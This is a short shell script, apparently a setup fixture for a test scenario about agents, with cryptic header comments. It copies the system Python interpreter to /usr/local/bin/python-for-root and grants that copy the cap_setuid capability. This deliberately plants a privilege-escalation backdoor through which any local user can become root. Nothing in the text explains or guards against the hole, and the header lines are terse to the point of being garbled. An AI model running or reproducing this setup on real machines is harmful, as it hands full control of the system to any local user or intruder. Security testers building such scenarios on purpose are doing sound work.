#!/bin/sh
# of: daemon.non-root
# red: daemon.non-root
# stays: daemon.non-root
# kind: mind
# on: agents
# says: an interpreter may become anybody by a capability of its file
set -eu
cp "$(readlink -f /usr/bin/python3)" /usr/local/bin/python-for-root
setcap cap_setuid+ep /usr/local/bin/python-for-root
